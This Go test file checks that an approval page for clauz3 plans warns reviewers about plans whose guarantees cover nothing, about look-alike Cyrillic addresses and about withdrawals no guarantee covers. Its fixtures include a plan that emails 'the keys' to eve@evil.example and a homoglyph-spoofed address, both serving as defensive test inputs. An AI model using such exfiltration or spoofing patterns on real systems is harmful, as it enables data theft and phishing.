package approval

import (
	"context"
	"html"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/clauz3/clauz3/approval/card"
	"github.com/clauz3/clauz3/compiler"
	"github.com/clauz3/clauz3/ir/english"
)

// cardLayers lays the bundled email and bank layers out under a fresh
// import root, effects.py passed through edit.
func cardLayers(t *testing.T, edit func(string) string) string {
	t.Helper()
	root := t.TempDir()
	for _, name := range []string{"email", "bank"} {
		dst := filepath.Join(root, "tools", name, "trusted")
		if err := os.MkdirAll(dst, 0o755); err != nil {
			t.Fatal(err)
		}
		for _, f := range []string{"__init__.py", "effects.py", "contracts.py", "policy.py"} {
			data, err := os.ReadFile(filepath.Join("..", "layers", name, f))
			if err != nil {
				t.Fatal(err)
			}
			if f == "effects.py" && edit != nil {
				data = []byte(edit(string(data)))
			}
			if err := os.WriteFile(filepath.Join(dst, f), data, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	return root
}

// compilingReprove compiles the plan for real and builds its card, as the
// service's re-proof does (the proof itself is not what these tests look
// at: the compiled program and its guarantees are).
func compilingReprove(root string) Reprove {
	return func(_ context.Context, name string, src []byte, target string) (Proof, error) {
		prog, err := compiler.Compile(name, src, compiler.Config{ImportRoots: []string{root}})
		if err != nil {
			return Proof{}, err
		}
		c, err := card.Build(prog, src)
		if err != nil {
			return Proof{}, err
		}
		p := Proof{PlanHash: planHash(string(src)), Target: target, Card: c, Coverage: []Coverage{}, CoverageChecked: true}
		for _, g := range prog.Guarantees {
			s, _ := english.Guarantee(g)
			p.Guarantees = append(p.Guarantees, Guarantee{Source: g.Source, English: s})
		}
		return p, nil
	}
}

// page submits src and returns the request page's HTML, unescaped, with
// tags kept.
func cardPage(t *testing.T, root, src string) string {
	t.Helper()
	h := newHarness(t, nil)
	h.svc.cfg.Reprove = compilingReprove(root)
	id := h.submit(src)
	r := h.do("GET", "/ui/requests/"+id, "", nil)
	if r.code != 200 {
		t.Fatalf("page = %d %s", r.code, r.body)
	}
	return html.UnescapeString(string(r.body))
}

// element returns the inner HTML of the element with this id, up to its
// own closing tag (nested elements of the same name counted).
func element(t *testing.T, page, id string) string {
	t.Helper()
	m := regexp.MustCompile(`<(\w+)[^>]* id="` + regexp.QuoteMeta(id) + `"[^>]*>`).FindStringSubmatchIndex(page)
	if m == nil {
		t.Fatalf("no element #%s in\n%s", id, page)
	}
	tag := page[m[2]:m[3]]
	rest, depth := page[m[1]:], 1
	open, close := regexp.MustCompile(`<`+tag+`[\s>]`), "</"+tag+">"
	for i := 0; i < len(rest); i++ {
		switch {
		case strings.HasPrefix(rest[i:], close):
			if depth--; depth == 0 {
				return rest[:i]
			}
		case open.MatchString(rest[i:min(i+len(tag)+2, len(rest))]):
			depth++
		}
	}
	t.Fatalf("element #%s is not closed", id)
	return ""
}

// TestCardPageVacuousGuarantee (H1/H2 on the card): the English says
// every email goes to bob, but one changed marker left send_email outside
// the guarantee; the page must say, loudly and next to the guarantee, that
// it covers nothing the plan does and that send_email is uncovered.
func TestCardPageVacuousGuarantee(t *testing.T) {
	root := cardLayers(t, func(s string) string { return strings.Replace(s, `@deal.has("email")`, `@deal.has("mail")`, 1) })
	src := "import clauz3\nfrom tools.email.trusted import contracts as emails\nfrom tools.email.trusted.effects import send_email\n\n" +
		"@clauz3.guarantee(emails.only(['bob@example.com']))\ndef main() -> None:\n    send_email('eve@evil.example', 'the keys')\n"
	page := cardPage(t, root, src)
	warn := element(t, page, "warnings")
	for _, want := range []string{"covers nothing the plan does", "send_email (tools.email.trusted) at plan.py:7:5 is covered by no guarantee"} {
		if !strings.Contains(warn, want) {
			t.Errorf("warnings box lacks %q:\n%s", want, warn)
		}
	}
	g := element(t, page, "guarantee-1")
	if !strings.Contains(g, "COVERS NOTHING THE PLAN DOES") || !strings.Contains(g, "emails.only(['bob@example.com'])") {
		t.Errorf("the guarantee is not marked where it is shown:\n%s", g)
	}
	if cov := element(t, page, "coverage"); !strings.Contains(cov, "It still calls 1 effect(s)") {
		t.Errorf("the coverage section reads as if the plan did nothing:\n%s", cov)
	}
	eff := element(t, page, "effects")
	if !strings.Contains(eff, "send_email") || !strings.Contains(eff, "'eve@evil.example'") || !strings.Contains(eff, "constant") || !strings.Contains(eff, "NO GUARANTEE") {
		t.Errorf("effects table:\n%s", eff)
	}
	// The control: the same plan mailing bob with the untouched layer
	// has no warning box and an unmarked guarantee.
	page = cardPage(t, cardLayers(t, nil), strings.Replace(src, "eve@evil.example", "bob@example.com", 1))
	if strings.Contains(page, `id="warnings"`) || strings.Contains(page, "COVERS NOTHING") {
		t.Errorf("control page warns:\n%s", page)
	}
}

// TestCardPageLookAlikeAndMoney (U1, P1 on the card): a Cyrillic а in an
// address is flagged and its domain shown in punycode; money is shown with
// its unit; an input is shown as such; a withdraw no guarantee selects is
// a warning.
func TestCardPageLookAlikeAndMoney(t *testing.T) {
	const spoof = "bob@ex\u0430mple.com"
	src := "import clauz3\nfrom tools.email.trusted import contracts as emails\nfrom tools.email.trusted.effects import send_email\n" +
		"from tools.bank.trusted import contracts as bank\nfrom tools.bank.trusted.effects import pay_bill, withdraw\n\n" +
		"@clauz3.guarantee(emails.only(['" + spoof + "']))\n@clauz3.guarantee(bank.only_payees(['acme']))\n" +
		"def main(account: str) -> None:\n    send_email('" + spoof + "', 'paid')\n    pay_bill(account, 'acme', 1250)\n    withdraw(account, 99999)\n"
	page := cardPage(t, cardLayers(t, nil), src)
	warn := element(t, page, "warnings")
	for _, want := range []string{"mixes Latin and Cyrillic", "bob@xn--exmple-4nf.com", "withdraw (tools.bank.trusted) at plan.py:12:5 is covered by no guarantee"} {
		if !strings.Contains(warn, want) {
			t.Errorf("warnings box lacks %q:\n%s", want, warn)
		}
	}
	eff := element(t, page, "effects")
	for _, want := range []string{"bob@xn--exmple-4nf.com", "99999 cents (999.99)", "1250 cents (12.50)", "input", "account"} {
		if !strings.Contains(eff, want) {
			t.Errorf("effects table lacks %q:\n%s", want, eff)
		}
	}
	if in := element(t, page, "inputs"); !strings.Contains(in, "account") || !strings.Contains(in, "str") {
		t.Errorf("inputs:\n%s", in)
	}
	if g := element(t, page, "guarantee-1"); !strings.Contains(g, "xn--exmple-4nf.com") {
		t.Errorf("the guarantee's look-alike address is not flagged where it is shown:\n%s", g)
	}
}

// A request whose re-proof computed no card says so instead of showing an
// empty, reassuring one.
func TestCardPageWithoutCard(t *testing.T) {
	h := newHarness(t, nil)
	id := h.submit(planSrc)
	page := string(h.do("GET", "/ui/requests/"+id, "", nil).body)
	if !strings.Contains(page, `id="no-card"`) {
		t.Errorf("no card note:\n%s", page)
	}
}

// The request page shows what the run will be able to touch: the card's
// sandbox lines (issue 15).
func TestCardPageSandbox(t *testing.T) {
	h := newHarness(t, nil)
	h.svc.cfg.Reprove = func(ctx context.Context, name string, src []byte, target string) (Proof, error) {
		p, err := fakeReprove(ctx, name, src, target)
		p.Card = &card.Card{Sandbox: []string{"read-only: /etc/ssl/certs", "read-write: /srv/outbox", "network: TCP connect to ports 587"}}
		return p, err
	}
	id := h.submit(planSrc)
	page := string(h.do("GET", "/ui/requests/"+id, "", nil).body)
	box := element(t, page, "sandbox")
	for _, want := range []string{"read-write: /srv/outbox", "network: TCP connect to ports 587"} {
		if !strings.Contains(box, want) {
			t.Errorf("the sandbox on the page lacks %q:\n%s", want, box)
		}
	}
}
